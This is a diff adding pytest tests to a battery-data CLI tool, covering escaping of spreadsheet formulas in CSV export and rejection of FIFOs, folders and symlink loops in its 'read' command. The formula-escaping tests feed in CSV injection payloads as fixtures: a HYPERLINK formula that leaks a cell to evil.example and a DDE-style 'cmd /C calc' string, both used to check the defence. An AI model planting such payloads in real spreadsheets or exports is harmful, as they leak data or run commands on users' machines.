@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 import subprocess
 import sys
@@ -59,3 +61,54 @@ def test_the_installed_command_answers_help():
     assert out.returncode == 0
     for command in ("read", "materialize", "sql", "issues"):
         assert command in out.stdout
+
+
+def test_csv_export_escapes_formula_text_and_keeps_numbers(tmp_path, capsys):
+    from bigmap_assets.ingest import Issue, issues_table
+    from bigmap_assets.registry import load_samples, samples_table
+
+    (tmp_path / "registry").mkdir()
+    (tmp_path / "registry" / "samples.csv").write_text(
+        "sample_id,provider,batch,series,chemistry,active_mass_mg,timezone\n"
+        'C1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",-B7,@SUM(A1),LNO,9.85,UTC\n')
+    samples, issues = load_samples(tmp_path / "registry")
+    assert issues == []
+    lake = Lake(tmp_path / "warehouse" / "lake")
+    lake.write("samples", samples_table(samples))
+    lake.write("ingest_issues", issues_table([Issue("raw/cycling/C1/=cmd|' /C calc'!A0.mpt", "cycling", "-1 rows")]),
+               {"technique": "cycling", "sample_id": "C1"})
+
+    query = "SELECT provider, batch, series, chemistry, active_mass_mg, -active_mass_mg AS neg, '-12.5' AS text FROM samples"
+    assert main(["sql", query, "--data-dir", str(tmp_path), "--format", "csv"]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[1] == ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "'-B7", "'@SUM(A1)", "LNO",
+                       "9.85", "-9.85", "-12.5"]
+    assert main(["sql", query, "--data-dir", str(tmp_path), "--format", "json"]) == 0
+    assert json.loads(capsys.readouterr().out)[0]["provider"].startswith("=HYPERLINK(")  # the tables keep the raw text
+
+    assert main(["issues", "--data-dir", str(tmp_path), "--format", "csv"]) == 0
+    [header, row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert dict(zip(header, row))["path"] == "raw/cycling/C1/=cmd|' /C calc'!A0.mpt"  # not at the start: as is
+    assert dict(zip(header, row))["reason"] == "'-1 rows"
+
+
+def test_spreadsheet_safe_quotes_every_formula_start_and_no_number():
+    from bigmap_assets.cli.core import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in ("=1+1", "+x", "-x", "@x", "\tx", "\rx", "a=b", "", None)] == [
+        "'=1+1", "'+x", "'-x", "'@x", "'\tx", "'\rx", "a=b", "", None]
+    assert [spreadsheet_safe(v) for v in (-2.5, 3, "+1", "-1.5e-3", ".5")] == [-2.5, 3, "+1", "-1.5e-3", ".5"]
+
+
+def test_read_refuses_a_fifo_a_folder_and_a_link_loop_in_one_line_without_waiting(tmp_path, capsys):
+    import os
+
+    os.mkfifo(tmp_path / "pipe.mpt")  # nobody writes: opening it to read would wait forever
+    os.symlink("loop.mpt", tmp_path / "loop.mpt")
+    out = subprocess.run([sys.executable, "-m", "bigmap_assets.cli", "read", str(tmp_path / "pipe.mpt")],
+                         capture_output=True, text=True, timeout=60)
+    assert out.returncode == 2 and out.stdout == ""
+    assert out.stderr == f"bigmap: error: {tmp_path / 'pipe.mpt'}: not a regular file: a FIFO (named pipe)\n"
+    for target, reason in ((".", "not a regular file: a folder"), ("loop.mpt", "a symbolic link loop")):
+        assert main(["read", str(tmp_path / target)]) == 2
+        assert capsys.readouterr().err == f"bigmap: error: {tmp_path / target}: {reason}\n"
